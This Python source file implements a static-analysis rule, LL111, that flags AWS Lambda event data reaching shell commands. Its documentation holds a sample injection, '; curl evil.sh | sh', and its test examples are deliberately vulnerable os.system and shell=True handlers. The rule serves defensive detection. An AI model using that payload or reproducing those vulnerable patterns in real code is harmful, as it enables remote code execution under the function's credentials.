"""LL111: data from the event reaches a shell command.

Also home of the small event-taint tracker LL112 shares: which names in a function hold data
derived from the handler's ``event`` (flow-insensitive, followed into same-module helpers).
"""

from __future__ import annotations

import ast
import dataclasses
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field

import libcst as cst

from lambdalint.code.context import CodeContext, HandlerLink, keyword, positional, string_value
from lambdalint.code.module import PyModule, walk_code
from lambdalint.code.sketch import FunctionNode, Sketch
from lambdalint.model import Finding, Severity
from lambdalint.registry import CodeRule, Example, register

# calls whose result carries none of the argument's text
SANITIZERS = {
    "int", "float", "bool", "len", "abs", "round", "hash", "isinstance", "callable", "type", "id",
    "uuid.UUID", "shlex.quote", "pipes.quote", "decimal.Decimal", "datetime.date.fromisoformat",
    "datetime.datetime.fromisoformat", "datetime.datetime.strptime", "ipaddress.ip_address",
    "pymysql.converters.escape_string", "MySQLdb.escape_string", "psycopg2.extensions.quote_ident",
    "psycopg2.sql.Identifier", "psycopg2.sql.Literal", "psycopg.sql.Identifier", "psycopg.sql.Literal",
}
SANITIZER_WORDS = re.compile(r"sanitiz|sanitis|escape|quote|valid|allowed|whitelist|allowlist|safe|clean", re.IGNORECASE)
VALIDATING_METHODS = {"isdigit", "isnumeric", "isdecimal", "isalnum", "isalpha", "isidentifier", "isascii"}
# triggers whose event AWS writes from the template: no caller can choose its content
TRUSTED_EVENT_KINDS = frozenset({"schedule"})
VALIDATING_CALLS = {"re.match", "re.fullmatch", "re.search", "isinstance"}


_FIELDS: dict[type, tuple[str, ...]] = {}


def _kids(node: cst.CSTNode) -> Iterator[cst.CSTNode]:
    """Immediate child nodes (cheaper than libcst's ``children``; order does not matter here)."""
    names = _FIELDS.get(type(node))
    if names is None:
        names = _FIELDS[type(node)] = tuple(
            f.name for f in dataclasses.fields(node) if not f.name.startswith(("whitespace", "lpar", "rpar"))
        )
    for name in names:
        value = getattr(node, name)
        if isinstance(value, cst.CSTNode):
            yield value
        elif isinstance(value, (list, tuple)):
            yield from (v for v in value if isinstance(v, cst.CSTNode))


def _names(node: cst.CSTNode) -> Iterator[str]:
    for n in [node, *walk_code(node)]:
        if isinstance(n, cst.Name):
            yield n.value


def target_names(target: cst.BaseExpression) -> Iterator[str]:
    """Names bound (or mutated in place, for subscripts/attributes) by an assignment target."""
    if isinstance(target, cst.Name):
        yield target.value
    elif isinstance(target, (cst.Tuple, cst.List)):
        for el in target.elements:
            yield from target_names(el.value)
    elif isinstance(target, cst.StarredElement):
        yield from target_names(target.value)
    elif isinstance(target, (cst.Subscript, cst.Attribute)):
        base: cst.BaseExpression = target
        while isinstance(base, (cst.Subscript, cst.Attribute)):
            base = base.value
        if isinstance(base, cst.Name):
            yield base.value


# node types FunctionTaint.__post_init__ looks at: libcst has no subclasses of them, so an exact type
# test is equivalent to isinstance (which is slow against libcst's abstract classes)
_FLOW_TYPES: frozenset[type] = frozenset(
    {cst.Assign, cst.AnnAssign, cst.AugAssign, cst.For, cst.CompFor, cst.WithItem, cst.NamedExpr, cst.Call, cst.If, cst.While, cst.Assert}
)


@dataclass
class FunctionTaint:
    """Names holding event data in one function, given which of its parameters do."""

    mod: PyModule
    fn: cst.FunctionDef
    seeds: frozenset[str]
    depth: int = 0
    # (helper, tainted params) -> (result tainted, per-element taint when it returns tuples)
    summaries: dict[tuple[cst.FunctionDef, frozenset[str]], tuple[bool, tuple[bool, ...] | None]] = field(default_factory=dict)
    built: frozenset[str] = frozenset()  # parameters the caller passed a string built from event data
    caller: str = ""
    tainted: set[str] = field(default_factory=set)
    validated: set[str] = field(default_factory=set)

    def __post_init__(self) -> None:
        self.tainted = set(self.seeds)
        flows: list[tuple[list[str], cst.BaseExpression, int | None]] = []
        for node in self.mod.body_nodes(self.fn):
            if type(node) not in _FLOW_TYPES:
                continue  # the cheap exact-type test first: most nodes are none of these
            if isinstance(node, cst.Assign):
                target = node.targets[0].target if len(node.targets) == 1 else None
                if isinstance(target, (cst.Tuple, cst.List)) and all(isinstance(e.value, cst.Name) for e in target.elements):
                    # a, b = f(x): each name gets its own element of the result
                    for i, el in enumerate(target.elements):
                        flows.append(([el.value.value], node.value, i))  # type: ignore[attr-defined]
                    continue
                flows.append(([n for t in node.targets for n in target_names(t.target)], node.value, None))
            elif isinstance(node, (cst.AnnAssign, cst.AugAssign)) and node.value is not None:
                flows.append((list(target_names(node.target)), node.value, None))
            elif isinstance(node, (cst.For, cst.CompFor)):
                flows.append((list(target_names(node.target)), node.iter, None))
            elif isinstance(node, cst.WithItem) and node.asname is not None:
                flows.append((list(target_names(node.asname.name)), node.item, None))
            elif isinstance(node, cst.NamedExpr):
                flows.append((list(target_names(node.target)), node.value, None))
            elif isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute):
                # parts.append(x), params.update(x), sql_parts.extend(x): the container holds x
                if node.func.attr.value in ("append", "extend", "insert", "add", "update", "appendleft", "write"):
                    base = list(target_names(node.func.value))
                    if base and node.args:
                        flows.append((base, cst.Tuple([cst.Element(a.value) for a in node.args]), None))
            elif isinstance(node, (cst.If, cst.While, cst.Assert)):
                self._validation(node.test)
        for targets, value, index in flows:
            # `name = shlex.quote(name)`, `limit = int(limit)`: re-bound to a sanitised value
            rebinds = index is None and len(targets) == 1 and targets[0] in self.tainted
            if rebinds and targets[0] in _names(value) and not self.expr(value):
                self.validated.add(targets[0])
        changed = True
        while changed:
            changed = False
            for targets, value, index in flows:
                new = [t for t in targets if t not in self.tainted]
                if new and (self.expr(value) if index is None else self.element(value, index)):
                    self.tainted.update(new)
                    changed = True
        self.tainted -= self.validated

    def element(self, value: cst.BaseExpression, index: int) -> bool:
        """Taint of element ``index`` of ``value`` (a tuple literal or a helper returning tuples)."""
        if isinstance(value, (cst.Tuple, cst.List)) and index < len(value.elements):
            return self.expr(value.elements[index].value)
        if isinstance(value, cst.Call) and isinstance(value.func, cst.Name) and value.func.value in self.mod.functions:
            summary = self.summary(value, self.mod.functions[value.func.value])
            if summary is not None:
                whole, parts = summary
                return parts[index] if parts is not None and index < len(parts) else whole
        return self.expr(value)

    def summary(self, call: cst.Call, callee: cst.FunctionDef) -> tuple[bool, tuple[bool, ...] | None] | None:
        """Whether a same-module helper returns event data, given the tainted arguments of
        ``call``; None when it is too deep (or recursive) to follow."""
        if callee is self.fn or self.depth >= 3:
            return None
        seeds = EventTaint.tainted_params(self, call, callee)
        if not seeds:
            return False, None
        key = (callee, seeds)
        if key not in self.summaries:
            self.summaries[key] = (True, None)  # provisional answer for recursive calls
            inner = FunctionTaint(self.mod, callee, seeds, self.depth + 1, self.summaries)
            returns = [n.value for n in self.mod.body_nodes(callee) if isinstance(n, cst.Return) and n.value is not None]
            whole = any(inner.expr(r) for r in returns)
            parts = None
            sizes = {len(r.elements) for r in returns if isinstance(r, cst.Tuple)}
            if returns and len(sizes) == 1 and all(isinstance(r, cst.Tuple) for r in returns):
                size = sizes.pop()
                parts = tuple(any(inner.expr(r.elements[i].value) for r in returns) for i in range(size))  # type: ignore[attr-defined]
            self.summaries[key] = (whole, parts)
        return self.summaries[key]

    def _validation(self, test: cst.BaseExpression) -> None:
        """Names an ``if``/``assert`` checks against an allow-list or a pattern: clean afterwards."""
        for node in [test, *walk_code(test)]:
            if isinstance(node, cst.Comparison):
                if isinstance(node.left, cst.Name) and any(isinstance(c.operator, (cst.In, cst.NotIn)) for c in node.comparisons):
                    self.validated.add(node.left.value)
            elif isinstance(node, cst.Call):
                qual = self.mod.call_name(node, self.fn) or ""
                func = node.func
                if isinstance(func, cst.Attribute) and func.attr.value in VALIDATING_METHODS and isinstance(func.value, cst.Name):
                    self.validated.add(func.value.value)
                elif qual in VALIDATING_CALLS or SANITIZER_WORDS.search(qual.rsplit(".", 1)[-1]) or qual.rsplit(".", 1)[-1].startswith("is_"):
                    for arg in node.args:
                        if isinstance(arg.value, cst.Name):
                            self.validated.add(arg.value.value)
                elif isinstance(func, cst.Attribute) and func.attr.value in ("match", "fullmatch"):
                    for arg in node.args:  # PATTERN.fullmatch(x)
                        if isinstance(arg.value, cst.Name):
                            self.validated.add(arg.value.value)

    def expr(self, node: cst.CSTNode | None) -> bool:
        """Whether evaluating ``node`` yields (part of) the event's data."""
        if node is None:
            return False
        if isinstance(node, cst.Name):
            return node.value in self.tainted and node.value not in self.validated
        if isinstance(node, cst.Subscript):
            return self.expr(node.value)  # ALLOWED[event["x"]] is an allow-list lookup
        if isinstance(node, cst.Attribute):
            return self.expr(node.value)
        if isinstance(node, (cst.Comparison, cst.Lambda)):
            return False
        if isinstance(node, cst.UnaryOperation) and isinstance(node.operator, cst.Not):
            return False
        if isinstance(node, cst.IfExp):
            return self.expr(node.body) or self.expr(node.orelse)
        if isinstance(node, cst.Call):
            return self.call(node)
        if isinstance(node, (cst.ListComp, cst.SetComp, cst.GeneratorExp)):
            return self.expr(node.elt)  # ["%s" for _ in ids] holds no event text
        if isinstance(node, cst.DictComp):
            return self.expr(node.key) or self.expr(node.value)
        return any(self.expr(c) for c in _kids(node))

    def call(self, node: cst.Call) -> bool:
        qual = self.mod.call_name(node, self.fn) or ""
        if qual in SANITIZERS or SANITIZER_WORDS.search(qual.rsplit(".", 1)[-1]):
            return False
        func = node.func
        if isinstance(func, cst.Name) and func.value in self.mod.functions:
            summary = self.summary(node, self.mod.functions[func.value])
            if summary is not None:
                return summary[0]
        if isinstance(func, cst.Attribute):
            if func.attr.value in ("get", "pop") and not self.expr(func.value):
                return False  # ALLOWED.get(event["x"]): a value from the allow-list
            if func.attr.value in VALIDATING_METHODS or func.attr.value in ("startswith", "endswith", "count", "find", "index"):
                return False
            if self.expr(func.value):
                return True
        return any(self.expr(a.value) for a in node.args)


class EventTaint:
    """Taint of every function the handler reaches, following tainted arguments into helpers."""

    MAX_DEPTH = 3

    def __init__(self, ctx: CodeContext, max_depth: int = MAX_DEPTH) -> None:
        self.ctx = ctx
        self.max_depth = max_depth
        self.summaries: dict[tuple[cst.FunctionDef, frozenset[str]], tuple[bool, tuple[bool, ...] | None]] = {}

    def functions(self, handler_fn: cst.FunctionDef, handler_name: str) -> Iterator[tuple[FunctionTaint, list[str]]]:
        params = [*handler_fn.params.posonly_params, *handler_fn.params.params]
        if not params:
            return
        seen: set[tuple[cst.FunctionDef, frozenset[str], frozenset[str]]] = set()
        queue: list[tuple[cst.FunctionDef, frozenset[str], frozenset[str], list[str]]] = [
            (handler_fn, frozenset({params[0].name.value}), frozenset(), [handler_name])
        ]
        while queue:
            fn, seeds, built, path = queue.pop(0)
            if (fn, seeds, built) in seen:
                continue
            seen.add((fn, seeds, built))
            taint = FunctionTaint(self.ctx.mod, fn, seeds, summaries=self.summaries, built=built, caller=path[-2] if len(path) > 1 else "")
            yield taint, path
            if len(path) > self.max_depth:
                continue
            builds: Builds | None = None
            for node in self.ctx.mod.body_nodes(fn):
                if isinstance(node, cst.Call) and isinstance(node.func, cst.Name):
                    callee = self.ctx.mod.functions.get(node.func.value)
                    if callee is None or callee is fn:
                        continue
                    callee_seeds = self.tainted_params(taint, node, callee)
                    if callee_seeds:
                        builds = builds or Builds(taint)
                        callee_built = frozenset(
                            name for name, arg in self.arguments(node, callee) if name in callee_seeds and builds.how(arg)
                        )
                        queue.append((callee, callee_seeds, callee_built, [*path, callee.name.value]))

    @staticmethod
    def arguments(call: cst.Call, callee: cst.FunctionDef) -> Iterator[tuple[str, cst.BaseExpression]]:
        """(parameter name, argument) pairs of a call to ``callee`` (``*args`` feed every
        remaining positional parameter)."""
        names = [p.name.value for p in [*callee.params.posonly_params, *callee.params.params]]
        index = 0
        for arg in call.args:
            if arg.star == "*":
                for name in names[index:]:
                    yield name, arg.value
            elif arg.star:
                continue
            elif arg.keyword is not None:
                yield arg.keyword.value, arg.value
            else:
                if index < len(names):
                    yield names[index], arg.value
                index += 1

    @staticmethod
    def tainted_params(taint: FunctionTaint, call: cst.Call, callee: cst.FunctionDef) -> frozenset[str]:
        return frozenset(name for name, arg in EventTaint.arguments(call, callee) if taint.expr(arg))


SAFE_COMPOSERS = ("psycopg2.sql.SQL", "psycopg.sql.SQL", "psycopg2.sql.Composed", "psycopg.sql.Composed")


class Builds:
    """Where a function builds strings from event data: f-strings, %, .format, +, join."""

    def __init__(self, taint: FunctionTaint) -> None:
        self.taint = taint
        self.assigned: dict[str, list[cst.BaseExpression]] = {}
        for node in taint.mod.body_nodes(taint.fn):
            if isinstance(node, cst.Assign):
                for t in node.targets:
                    if isinstance(t.target, cst.Name):
                        self.assigned.setdefault(t.target.value, []).append(node.value)
            elif isinstance(node, cst.AnnAssign) and node.value is not None and isinstance(node.target, cst.Name):
                self.assigned.setdefault(node.target.value, []).append(node.value)
            elif isinstance(node, cst.AugAssign) and isinstance(node.target, cst.Name):
                # q += f"... {x}" builds by concatenation
                self.assigned.setdefault(node.target.value, []).append(
                    cst.BinaryOperation(node.target, cst.Add(), node.value) if isinstance(node.operator, cst.AddAssign) else node.value
                )
            elif isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value in ("append", "extend", "insert"):
                for name in target_names(node.func.value):  # parts.append(f"... {x}")
                    for arg in node.args:
                        self.assigned.setdefault(name, []).append(arg.value)

    def how(self, expr: cst.BaseExpression, depth: int = 0) -> str | None:
        """How ``expr`` interpolates event data into a string, or None when it does not."""
        if depth > 4:
            return None
        if isinstance(expr, cst.FormattedString):
            for part in expr.parts:
                if isinstance(part, cst.FormattedStringExpression) and self.taint.expr(part.expression):
                    return "an f-string"
            return None
        if isinstance(expr, cst.ConcatenatedString):
            return self.how(expr.left, depth + 1) or self.how(expr.right, depth + 1)
        if isinstance(expr, cst.BinaryOperation):
            if isinstance(expr.operator, cst.Modulo) and _stringish(expr.left):
                return "`%` formatting" if self.taint.expr(expr.right) else None
            if isinstance(expr.operator, cst.Add):
                tainted = self.taint.expr(expr.left) or self.taint.expr(expr.right)
                if tainted and (self.stringish(expr.left, depth) or self.stringish(expr.right, depth)):
                    return "string concatenation"
                return self.how(expr.left, depth + 1) or self.how(expr.right, depth + 1)
            return None
        if isinstance(expr, cst.Call) and isinstance(expr.func, cst.Attribute):
            method = expr.func.attr.value
            receiver = expr.func.value
            if (self.taint.mod.call_name(expr, self.taint.fn) or "").endswith(SAFE_COMPOSERS) and expr.args:
                return self.how(expr.args[0].value, depth + 1)  # sql.SQL(f"... {x}") is still formatted text
            if method == "format":
                if isinstance(receiver, cst.Call) and (self.taint.mod.call_name(receiver, self.taint.fn) or "").endswith(SAFE_COMPOSERS):
                    return None  # psycopg sql.SQL("... {}").format(sql.Identifier(x)) is safe composition
                if any(self.taint.expr(a.value) for a in expr.args):
                    return "`.format`"
                return self.how(receiver, depth + 1)
            joined = method == "join" and _stringish(receiver)
            if joined and any(self.taint.expr(a.value) or self.how(a.value, depth + 1) for a in expr.args):
                return "string joining"
            if method in ("strip", "lower", "upper", "replace", "rstrip", "lstrip"):
                return self.how(receiver, depth + 1)
        if isinstance(expr, cst.Call) and isinstance(expr.func, cst.Name) and expr.func.value in self.taint.mod.functions:
            return self.helper(expr, self.taint.mod.functions[expr.func.value], depth)
        if isinstance(expr, cst.Name):
            if expr.value in self.taint.built and expr.value not in self.assigned:
                return f"string formatting in the caller `{self.taint.caller}`" if self.taint.caller else "string formatting in the caller"
            for value in self.assigned.get(expr.value, []):
                found = self.how(value, depth + 1)
                if found:
                    return found
        if isinstance(expr, (cst.List, cst.Tuple)):
            for el in expr.elements:
                found = self.how(el.value, depth + 1)
                if found:
                    return found
        return None

    def helper(self, call: cst.Call, callee: cst.FunctionDef, depth: int) -> str | None:
        """A same-module helper that returns a string it built from event data it was given."""
        taint = self.taint
        if callee is taint.fn or taint.depth >= 3:
            return None
        seeds = EventTaint.tainted_params(taint, call, callee)
        if not seeds:
            return None
        inner = Builds(FunctionTaint(taint.mod, callee, seeds, taint.depth + 1, taint.summaries))
        for node in taint.mod.body_nodes(callee):
            if isinstance(node, cst.Return) and node.value is not None:
                found = inner.how(node.value, depth + 1)
                if found:
                    return f"{found} in `{callee.name.value}`"
        return None

    def stringish(self, expr: cst.BaseExpression, depth: int) -> bool:
        if _stringish(expr):
            return True
        if isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Add):
            return self.stringish(expr.left, depth) or self.stringish(expr.right, depth)
        if isinstance(expr, cst.Name) and depth < 4:
            return any(self.stringish(v, depth + 1) for v in self.assigned.get(expr.value, []))
        return False


def _stringish(expr: cst.BaseExpression) -> bool:
    return isinstance(expr, (cst.SimpleString, cst.ConcatenatedString, cst.FormattedString))


def sinks(
    ctx: CodeContext,
    find: Callable[[FunctionTaint, cst.Call], str | None],
    shape: Callable[[PyModule, cst.FunctionDef, cst.Call], bool],
) -> Iterator[tuple[cst.Call, str, str, list[str]]]:
    """(call, description, handler name, path) for every sink ``find`` recognises, once each.

    ``shape`` says, without any taint, whether a call could be a sink at all; a handler whose
    reachable functions hold no such call is not followed (the dataflow is the costly part)."""
    reported: set[cst.Call] = set()
    for handler in ctx.handlers:
        kinds = set(handler.link.event_kinds)
        if kinds and kinds <= TRUSTED_EVENT_KINDS:
            continue  # only schedules invoke it: AWS writes the event, no caller chooses it
        # EventTaint follows same-module calls as deep as ``reachable`` does, so this is a superset
        if not any(
            type(node) is cst.Call and shape(ctx.mod, fn, node)
            for fn, _ in ctx.reachable(handler, depth=EventTaint.MAX_DEPTH)
            for node in ctx.mod.body_nodes(fn)
        ):
            continue
        for taint, path in EventTaint(ctx).functions(handler.node, handler.name):
            if not taint.tainted:
                continue
            for node in ctx.mod.body_nodes(taint.fn):
                if isinstance(node, cst.Call) and node not in reported:
                    what = find(taint, node)
                    if what:
                        reported.add(node)
                        yield node, what, handler.name, path


# ---------------------------------------------------------------------- screens (ast sketch)
# (sketch_argument is general enough to move to lambdalint.code.sketch)


def reach_sinks(sketch: Sketch, handlers: Sequence[HandlerLink], calls: list[ast.Call]) -> Iterator[tuple[ast.Call, FunctionNode]]:
    """Each of ``calls`` that :func:`sinks` could report, with the top-level function it lies in.

    ``sinks`` only looks at calls in the bodies of functions ``EventTaint`` follows from a
    handler that has a first parameter and is not triggered by schedules alone; those are
    same-module functions reached by plain-name calls, a subset of ``sketch.reach``. Top-level
    functions do not share lines, so a call lies in a function's body only if its line is
    within the function's lines (calls in nested defs are kept too: a superset)."""
    names = []
    for link in handlers:
        kinds = set(link.event_kinds)
        if kinds and kinds <= TRUSTED_EVENT_KINDS:
            continue
        fn = sketch.functions.get(link.name)
        if fn is not None and (fn.args.posonlyargs or fn.args.args):
            names.append(link.name)
    if not names:
        return
    yield from sketch.reached(calls, names)


def sketch_argument(call: ast.Call, index: int, names: Sequence[str]) -> ast.expr | None:
    """``positional(call, index) or keyword(call, names[0]) or ...`` on an ``ast.Call``."""
    pos = [a for a in call.args if not isinstance(a, ast.Starred)]
    if index < len(pos):
        return pos[index]
    for name in names:
        for kw in call.keywords:
            if kw.arg == name:
                return kw.value
    return None


def _shell_candidate(sketch: Sketch, call: ast.Call) -> bool:
    """Whether :func:`shell_sink` could report ``call`` (whatever the taint): it must resolve
    to a shell function (``sketch.quals`` is a superset of ``call_name``) and pass a command
    that holds a name (``FunctionTaint.expr`` is true only through a tainted name: literals,
    lists of literals and placeholder-less f-strings never are)."""
    func = call.func
    if isinstance(func, ast.Attribute) and func.attr not in _SHELL_LAST:
        return False  # every dotted name it may stand for ends with this attribute
    if isinstance(func, ast.Name) and func.id not in sketch.imports:
        return False  # the sinks are dotted names: a bare name matches only through an import
    quals = sketch.quals(func)
    if not quals & _SHELL_SINKS:
        return False
    first = sketch_argument(call, 0, ("args", "cmd", "command"))
    if first is None:
        return False
    if quals & SHELL_ALWAYS and names_in(first):
        return True
    if not quals & SHELL_OPTIONAL:
        return False
    shell = next((kw.value for kw in call.keywords if kw.arg == "shell"), None)
    if shell is not None and not (isinstance(shell, ast.Constant) and (shell.value is False or shell.value is None)):
        # shell=True or shell=<int literal> is reported; any other value (a variable) is not
        literal = isinstance(shell, ast.Constant) and (shell.value is True or type(shell.value) is int)
        return literal and names_in(first)
    # ["sh", "-c", command]
    if not isinstance(first, (ast.List, ast.Tuple)) or len(first.elts) < 3:
        return False
    prog, flag = (_string(el) for el in first.elts[:2])
    via_shell = (prog in SHELLS and flag == "-c") or (prog == "/usr/bin/env" and flag in SHELLS)
    return via_shell and any(names_in(el) for el in first.elts[2:])


def names_in(expr: ast.expr) -> bool:
    """Whether a name occurs in ``expr``: ``FunctionTaint.expr`` is true only through one."""
    return any(type(node) is ast.Name for node in ast.walk(expr))


def _unstar(expr: ast.expr) -> ast.expr:
    return expr.value if isinstance(expr, ast.Starred) else expr


def _string(expr: ast.expr) -> str | None:
    """``string_value`` of the element (a plain str literal; the value under a star, as libcst
    sees ``StarredElement.value``)."""
    expr = _unstar(expr)
    return expr.value if isinstance(expr, ast.Constant) and isinstance(expr.value, str) else None


def where(handler: str, path: list[str]) -> str:
    if len(path) == 1:
        return f"in handler `{handler}`"
    return f"in `{path[-1]}`, called from handler `{handler}` ({' -> '.join(path)})"


SHELL_ALWAYS = {
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "commands.getoutput",
    "asyncio.create_subprocess_shell", "os.popen2", "os.popen3", "os.popen4",
}
SHELL_OPTIONAL = {
    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen",
}
SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/zsh", "/usr/bin/env"}
_SHELL_SINKS = SHELL_ALWAYS | SHELL_OPTIONAL
_SHELL_LAST = {name.rsplit(".", 1)[-1] for name in _SHELL_SINKS}


def shell_shape(mod: PyModule, fn: cst.FunctionDef, call: cst.Call) -> bool:
    """A call that :func:`shell_sink` could report, whatever its arguments."""
    return (mod.call_name(call, fn) or "") in SHELL_ALWAYS | SHELL_OPTIONAL


def shell_sink(taint: FunctionTaint, call: cst.Call) -> str | None:
    qual = taint.mod.call_name(call, taint.fn) or ""
    first = positional(call, 0) or keyword(call, "args") or keyword(call, "cmd") or keyword(call, "command")
    if first is None:
        return None
    if qual in SHELL_ALWAYS:
        return f"`{qual}`" if taint.expr(first.value) else None
    if qual not in SHELL_OPTIONAL:
        return None
    shell = keyword(call, "shell")
    if shell is not None and not (isinstance(shell.value, cst.Name) and shell.value.value in ("False", "None")):
        if (isinstance(shell.value, cst.Name) and shell.value.value == "True") or isinstance(shell.value, cst.Integer):
            return f"`{qual}(..., shell=True)`" if taint.expr(first.value) else None
        return None  # shell=<variable>: unknown
    # ["sh", "-c", command]: a shell without shell=True
    value = first.value
    if isinstance(value, (cst.List, cst.Tuple)) and len(value.elements) >= 3:
        prog = string_value(value.elements[0].value)
        flag = string_value(value.elements[1].value)
        via_shell = (prog in SHELLS and flag == "-c") or (prog == "/usr/bin/env" and flag in SHELLS)
        if via_shell and any(taint.expr(el.value) for el in value.elements[2:]):
            return f"`{qual}([{prog!r}, '-c', ...])`"
    return None


@register
class ShellInjection(CodeRule):
    id = "LL111"
    name = "shell-injection"
    reads = "reach"
    family = "code"
    severity = Severity.ERROR
    precision = "high"
    security_severity = 9.0
    tags = ("security", "injection")
    needles = ("system", "popen", "shell", "subprocess", "getoutput", "-c")
    summary = "Data from the event reaches a shell command (command injection)."
    doc = """
## What it does
Follows data derived from the handler's `event` (assignments, f-strings, concatenation,
`.format`, method calls, loops over records; into same-module helpers through their
arguments) to commands run by a shell: `os.system`, `os.popen`, `subprocess.getoutput`,
`asyncio.create_subprocess_shell`, `subprocess.run/call/check_call/check_output/Popen`
with `shell=True`, and `["sh", "-c", ...]` argument lists.

Not reported: argument lists without a shell (`subprocess.run(["convert", key, out])`),
values passed through `shlex.quote`, `int(...)` or a function named like a sanitiser or
validator, names checked against an allow-list (`if name not in ALLOWED: ...`), a pattern
(`re.fullmatch`) or `str.isalnum()`, values looked up in a fixed table
(`COMMANDS[event["action"]]`), and functions the template triggers only by schedules (AWS
writes those events; no caller chooses their content).

## Why it matters
Everything in the event can be chosen by whoever triggers the function: an API caller, the
uploader who names an S3 object, the sender of a queue message. Interpolated into a shell
command, `; curl evil.sh | sh` in a file name runs with the function's IAM role, whose
temporary credentials sit in the environment for the attacker to take.

## Example
```python
import os

def lambda_handler(event, context):
    key = event["Records"][0]["s3"]["object"]["key"]
    os.system(f"convert /tmp/{key} /tmp/out.png")        # LL111
```
Use instead:
```python
import subprocess

def lambda_handler(event, context):
    key = event["Records"][0]["s3"]["object"]["key"]
    subprocess.run(["convert", f"/tmp/{key}", "/tmp/out.png"], check=True)
```

## How to fix
Pass an argument list without `shell=True`, so no shell parses the value; quote with
`shlex.quote` only when a shell is unavoidable; validate the value against an allow-list or
a strict pattern first.
"""
    references = (
        "https://owasp.org/www-community/attacks/Command_Injection",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
    )
    invalid = (
        Example.code(
            "import os\n\ndef lambda_handler(event, context):\n"
            "    key = event['Records'][0]['s3']['object']['key']\n"
            "    os.system(f'convert /tmp/{key} /tmp/out.png')\n"
        ),
        Example.code(
            "import subprocess as sp\n\ndef run(name):\n    return sp.check_output('git log ' + name, shell=True)\n\n"
            "def handler(event, context):\n    return run(event['branch'])\n",
            note="through a helper and an aliased import",
        ),
    )
    valid = (
        Example.code(
            "import subprocess\n\ndef lambda_handler(event, context):\n"
            "    key = event['Records'][0]['s3']['object']['key']\n"
            "    subprocess.run(['convert', f'/tmp/{key}', '/tmp/out.png'], check=True)\n",
            note="an argument list: no shell parses the value",
        ),
        Example.code(
            "import os\nimport shlex\n\ndef lambda_handler(event, context):\n"
            "    os.system('convert ' + shlex.quote(event['key']) + ' out.png')\n",
            note="quoted",
        ),
    )

    def screen(self, sketch: Sketch, handlers: Sequence[HandlerLink]) -> bool:
        # sound: check reports only calls shell_sink accepts (a shell function by call_name,
        # whose command holds a name, the only way FunctionTaint.expr can be true; for
        # subprocess.* also a literal shell=True/int or an ["sh", "-c", ...] list) in functions
        # reached from a handler that has a first parameter and is not schedule-only: see
        # _shell_candidate and reach_sinks, each an over-approximation of that
        imports = sketch.imports
        calls = [
            call
            for call in sketch.nodes(ast.Call)
            # the cheap part of _shell_candidate first, inline
            if (isinstance(call.func, ast.Attribute) and call.func.attr in _SHELL_LAST)
            or (isinstance(call.func, ast.Name) and call.func.id in imports)
            if _shell_candidate(sketch, call)
        ]
        return bool(calls) and any(True for _ in reach_sinks(sketch, handlers, calls))

    def check(self, ctx: CodeContext) -> Iterator[Finding]:
        for call, what, handler, path in sinks(ctx, shell_sink, shell_shape):
            yield ctx.finding(
                call,
                f"event data reaches the shell command {what} {where(handler, path)}: whoever triggers the "
                "function can inject commands that run with its IAM role; pass an argument list without "
                "shell=True (or shlex.quote the value)",
                logical=".".join(path),
            )
